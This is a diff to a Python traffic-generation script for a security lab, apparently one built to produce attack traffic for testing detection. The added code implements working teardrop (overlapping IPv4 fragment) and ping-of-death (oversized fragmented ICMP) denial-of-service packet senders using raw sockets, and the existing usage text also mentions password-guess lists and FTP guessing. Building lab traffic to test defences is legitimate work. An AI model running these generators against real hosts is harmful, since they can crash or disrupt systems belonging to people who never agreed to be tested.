@@ -27,6 +27,18 @@ Added for make-lab.sh:
   words KIND N SEED                     N lines: KIND=pass (password guesses) or path (web paths,
                                         a few of them real pages of the lab web root)
   smtp-client ADDR PORT N SEED [SRC]    N SMTP sessions (EHLO, MAIL, RCPT, DATA of 1-12 KB, QUIT)
+  teardrop SRC DST N GAP SEED SHAPE SPORT DPORT
+                                        N UDP datagrams as overlapping IPv4 fragments (raw socket,
+                                        root): SHAPE = OFF:LEN:MF,... in bytes (OFF a multiple of 8),
+                                        the first piece at offset 0 holds the UDP header; SPORT /
+                                        DPORT = N (fixed), N+ (N, N+1, ...) or rand (seeded, unique);
+                                        a random IP id per datagram; GAP seconds between datagrams
+  pod SRC DST N GAP SEED FRAG TAIL ORDER
+                                        N ping-of-death ICMP echo requests (raw socket, root): an
+                                        echo message of 65528 + TAIL bytes (over the 65,535-byte IP
+                                        limit) cut into FRAG-byte fragments up to offset 65528, then
+                                        a last fragment of TAIL bytes at offset 65528; ORDER = fwd or
+                                        rev (last fragment first); GAP seconds between echoes
 """
 import os
 import random
@@ -297,6 +309,76 @@ def smtp_client(addr, port, n, seed, src='127.0.0.1'):
         time.sleep(rnd.uniform(0.2, 1.5))
 
 
+def _csum(b):
+    if len(b) % 2:
+        b += b'\0'
+    s = sum(struct.unpack('!%dH' % (len(b) // 2), b))
+    while s >> 16:
+        s = (s & 0xffff) + (s >> 16)
+    return ~s & 0xffff
+
+
+def _ip_fragment(src, dst, proto, ident, off, mf, data):
+    """One IPv4 packet: header (no options, TTL 64) + data, fragment offset `off` bytes."""
+    if off % 8:
+        raise ValueError('fragment offset %d is not a multiple of 8' % off)
+    flags = (0x2000 if mf else 0) | (off // 8)
+    h = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(data), ident, flags, 64, proto, 0,
+                    socket.inet_aton(src), socket.inet_aton(dst))
+    return h[:10] + struct.pack('!H', _csum(h)) + h[12:] + data
+
+
+def _raw_socket():
+    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)  # IP_HDRINCL
+
+
+def _ports(spec, n, rnd):
+    if spec == 'rand':
+        return rnd.sample(range(1024, 65536), n)
+    if spec.endswith('+'):
+        return [int(spec[:-1]) + i for i in range(n)]
+    return [int(spec)] * n
+
+
+def teardrop(src, dst, n, gap, seed, shape, sport, dport):
+    n, gap, rnd = int(n), float(gap), random.Random(int(seed))
+    pieces = [tuple(int(x) for x in p.split(':')) for p in shape.split(',')]
+    if pieces[0][0] != 0 or pieces[0][1] < 8:
+        raise ValueError('the first piece must start at 0 and hold the UDP header')
+    total = max(off + ln for off, ln, _ in pieces)
+    sports, dports = _ports(sport, n, rnd), _ports(dport, n, rnd)
+    ids = rnd.sample(range(1, 65536), n)
+    s = _raw_socket()
+    for i in range(n):
+        body = bytes(rnd.getrandbits(8) for _ in range(total - 8))
+        dgram = struct.pack('!HHHH', sports[i], dports[i], total, 0) + body  # UDP checksum 0: none
+        for off, ln, mf in pieces:
+            s.sendto(_ip_fragment(src, dst, 17, ids[i], off, mf, dgram[off:off + ln]), (dst, 0))
+            time.sleep(0.002)
+        time.sleep(gap)
+
+
+def pod(src, dst, n, gap, seed, frag, tail, order):
+    n, gap, frag, tail, rnd = int(n), float(gap), int(frag), int(tail), random.Random(int(seed))
+    if frag % 8 or tail < 8:
+        raise ValueError('FRAG must be a multiple of 8 and TAIL at least 8')
+    size = 65528 + tail                       # ICMP message; + 20 bytes of IP header > 65,535
+    data = bytes(i & 0xff for i in range(size - 8))
+    icmp_id = rnd.randint(1, 65535)
+    ids = rnd.sample(range(1, 65536), n)
+    cuts = list(range(0, 65528, frag)) + [65528]
+    s = _raw_socket()
+    for i in range(n):
+        msg = struct.pack('!BBHHH', 8, 0, 0, icmp_id, i + 1) + data
+        msg = msg[:2] + struct.pack('!H', _csum(msg)) + msg[4:]
+        frags = [(a, b) for a, b in zip(cuts, cuts[1:] + [size])]
+        if order == 'rev':
+            frags.reverse()
+        for a, b in frags:
+            s.sendto(_ip_fragment(src, dst, 1, ids[i], a, b < size, msg[a:b]), (dst, 0))
+        time.sleep(gap)
+
+
 if __name__ == '__main__':
     cmd, args = sys.argv[1], sys.argv[2:]
     {
@@ -304,4 +386,5 @@ if __name__ == '__main__':
         'ntp-server': ntp_server, 'ntp-client': ntp_client, 'ftp-server': ftp_server,
         'ftp-guess': ftp_guess, 'ftp-good': ftp_good,
         'udp-sink': udp_sink, 'ftp-typo': ftp_typo, 'words': words, 'smtp-client': smtp_client,
+        'teardrop': teardrop, 'pod': pod,
     }[cmd](*args)
